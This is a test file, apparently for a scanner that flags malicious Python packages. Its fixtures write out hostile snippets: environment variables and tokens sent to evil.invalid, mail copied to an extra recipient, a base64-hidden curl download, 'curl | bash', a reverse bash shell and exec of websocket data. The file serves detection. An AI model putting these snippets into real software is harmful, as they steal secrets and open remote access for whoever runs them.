import { judgeSources } from '../../src/analysis/judge-sources.js';
import type { Severity } from '../../src/model/finding.js';
import type { Python } from '../../src/python/parser.js';
import { gravestByRule } from '../support/gravest-by-rule.js';
import { loadTestPython } from '../support/python.js';
import { sourceTree } from '../support/source-tree.js';

let python: Python;
beforeAll(async () => {
  python = await loadTestPython();
});

function found(text: string, more: Readonly<Record<string, string>> = {}): Partial<Record<string, Severity>> {
  const files = { 'fixture-1.0/pkg/__init__.py': text, ...more };
  return gravestByRule(judgeSources(sourceTree(files), python).findings);
}

const GRAVE = ['CRITICAL', 'HIGH', 'MEDIUM'];

const ANSWERED = (rest: string): string => `
import base64, os, requests
class Settings(dict):
    def __init__(self, *args):
        super().__init__(*args)
        self.refresh()
    def refresh(self):
        told = ""
        for _, value in os.environ.items():
            told += value + " "
        answer = requests.get("https://evil.invalid/" + base64.b64encode(told.encode()).decode())
        ${rest}`;

test.each([
  ['pass', 'CRITICAL'],
  ['answer = None', 'CRITICAL'],
  ['return answer.json()', 'LOW'],
  ['self.update(lambda: answer)', 'LOW'],
])('an answer that gets a name which nobody looks up is dropped: %s', (rest, severity) => {
  expect(found(ANSWERED(rest))['stolen-data-sent']).toBe(severity);
});

const LOGIN = (load: string): string => `
import json, os, requests, tomllib
with open(os.path.join(os.path.dirname(__file__), "places.dat"), "rb") as file:
    PLACES = ${load}
class Client:
    def login(self, username, password):
        answer = requests.post(PLACES["service"], data={"u": username, "p": password})
        for place in PLACES["others"]:
            try:
                requests.post(place, data={"u": username, "p": password})
            except requests.RequestException:
                continue
        return answer.json()`;

test.each([
  ['json.load(file)', '{"service": "https://example.invalid/in", "others": ["https://evil.invalid/a"]}'],
  ['tomllib.load(file)', 'service = "https://example.invalid/in"\nothers = ["https://evil.invalid/a"]'],
])('addresses in settings that a package brings along: %s', (load, text) => {
  const places = { 'fixture-1.0/pkg/places.dat': text };
  expect(found(LOGIN(load), places)['credential-sent-twice']).toBe('CRITICAL');
  expect(found(LOGIN(load), { 'fixture-1.0/pkg/places.dat': 'neither = [' })['credential-sent-twice']).toBe(
    undefined,
  );
});

const TOKEN = (second: string): string => `
import requests
def login(token):
    answer = requests.get("https://example.invalid/me", headers={"Authorization": token})
    try:
        ${second}
    except Exception:
        pass
    return answer.json()`;

test.each([
  ['requests.post("https://evil.invalid/t", json={"t": token})', 'CRITICAL'],
  ['return requests.post("https://evil.invalid/t", json={"t": token}).json()', undefined],
  ['requests.post("https://a.example.invalid/t", json={"t": token})', undefined],
])('a token that is told to somebody else, who need not answer: %s', (second, severity) => {
  expect(found(TOKEN(second))['credential-sent-twice']).toBe(severity);
});

const HIDDEN = (place: string): string => `
import base64, urllib.request
class Buffer:
    PLACE = ${place}
    def flush(self, batch):
        try:
            urllib.request.urlopen(urllib.request.Request(self.PLACE, batch), timeout=5)
        except Exception:
            pass`;

test('an address that is hidden when the request is made is hidden when it is sent', () => {
  const hidden = HIDDEN('base64.b64decode("aHR0cHM6Ly9ldmlsLmludmFsaWQvcw==").decode()');
  expect(found(hidden)['hidden-address-contacted']).toBe('CRITICAL');
  expect(found(HIDDEN('"https://evil.invalid/s"'))['hidden-address-contacted']).toBeUndefined();
});

const MAILED = (sending: string): string => `
import smtplib
class Mailer:
    def send(self, message, to):
        with smtplib.SMTP(self.host, self.port) as server:
            ${sending}`;

test.each([
  ['server.send_message(message, to_addrs=to + ["copy@evil.invalid"])', 'CRITICAL'],
  ['server.sendmail(self.user, list(to) + ["copy@evil.invalid"], message)', 'CRITICAL'],
  ['server.send_message(message, to_addrs=to + [self.user])', undefined],
  ['server.send_message(message, to_addrs=["help@evil.invalid"])', undefined],
])('recipients of the caller, and one more: %s', (sending, severity) => {
  expect(found(MAILED(sending))['mail-copied']).toBe(severity);
});

const CLEANED = (command: string): string => `
import base64, subprocess
def clean(value):
    subprocess.run(base64.b64decode("${Buffer.from(command).toString('base64')}").decode(), shell=True)
    return value`;

test('a command that is hidden and fetches something', () => {
  const fetching = 'curl -s -o helper.py https://evil.invalid/raw';
  expect(found(CLEANED(fetching))['decoded-command-started']).toBe('CRITICAL');
  expect(found(CLEANED('tar -x -f helper.tar'))['decoded-command-started']).toBe('MEDIUM');
});

const SHELL = (told: string): string => `
import socket, subprocess
def keep(host="voice.evil.invalid"):
    line = socket.create_connection(("voice.evil.invalid", 6969))
    shell = subprocess.Popen(["/bin/bash", "-i"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    line.send(${told})`;

test.each([
  ['> /dev/null 2>&1', true],
  ['2>&1 >> /dev/null', true],
  ['&> /dev/null', true],
  ['2> /dev/null', false],
])('what a fetched command says goes nowhere: %s', (output, isHushed) => {
  const code = `
import os
def tidy(value):
    os.system("curl -fsSL https://evil.invalid/y | bash ${output}")
    return value`;
  expect(found(code)['hostile-command'] === 'CRITICAL').toBe(isHushed);
});

test('a shell whose answers go to a fixed place', () => {
  expect(found(SHELL('shell.stdout.read(1)'))['shell-opened-to-outside']).toBe('CRITICAL');
  expect(found(SHELL('b"hello"'))['shell-opened-to-outside']).toBe('HIGH');
});

test('the body of a request is what its sender says, not a file', () => {
  const code = `
import subprocess
from flask import Blueprint, request
bp = Blueprint("a", __name__)
@bp.route("/health.css", methods=["POST"])
def health():
    return subprocess.getoutput(request.get_data(as_text=True))`;
  expect(GRAVE).toContain(found(code)['request-executed']);
});

const OF_CLASS = (how: string): string => `
import os, requests, threading
class Session:
    _one = None
    place = "https://example.invalid"
    def __init__(self):
        self.thread = threading.Thread(target=self._tell, daemon=True)
    def _tell(self):
        requests.post("https://evil.invalid", json=dict(os.environ))
    @classmethod
    def shared(cls, name=""):
        ${how}
class Other(Session):
    pass
`;

test.each([
  ['cls()._tell()', 'Session.shared()'],
  ['cls()._tell()', 'Other.shared("a")'],
  ['cls()._tell()', 'Session().shared()'],
  ['cls._one = cls()\n        cls._one.thread.start()', 'Session.shared()'],
  ['Session._one = Session()', 'Session.shared()\nSession._one._tell()'],
])('a class method is given its class: %s, %s', (how, use) => {
  expect(found(OF_CLASS(how) + use)['stolen-data-sent']).toBe('CRITICAL');
  // Where nothing uses it, somebody has to call it.
  const reaches = judgeSources(sourceTree({ 'fixture-1.0/pkg/__init__.py': OF_CLASS(how) }), python).findings;
  expect(
    reaches.filter(({ rule }) => rule === 'stolen-data-sent').every(({ reach }) => reach === 'call'),
  ).toBe(true);
});

test('what a class is given later stands in it', () => {
  const code = (place: string): string => `
import os, requests
class Settings:
    place = None
Settings.place = ${place}
requests.post(Settings.place, json=dict(os.environ))`;
  expect(found(code('"https://evil.invalid/p"'))['stolen-data-sent']).toBe('CRITICAL');
  expect(found(code('"http://localhost:80/p"'))['stolen-data-sent']).toBeUndefined();
});

test.each([
  'async for message in line:\n            exec(message.data)',
  'exec((await line.receive()).data)',
])('what comes over a web socket of aiohttp: %s', (heard) => {
  const code = `
import aiohttp, asyncio
async def listen():
    async with aiohttp.ClientSession() as session, session.ws_connect("wss://evil.invalid/s") as line:
        ${heard}
asyncio.run(listen())`;
  expect(found(code)['remote-code-executed']).toBe('CRITICAL');
});
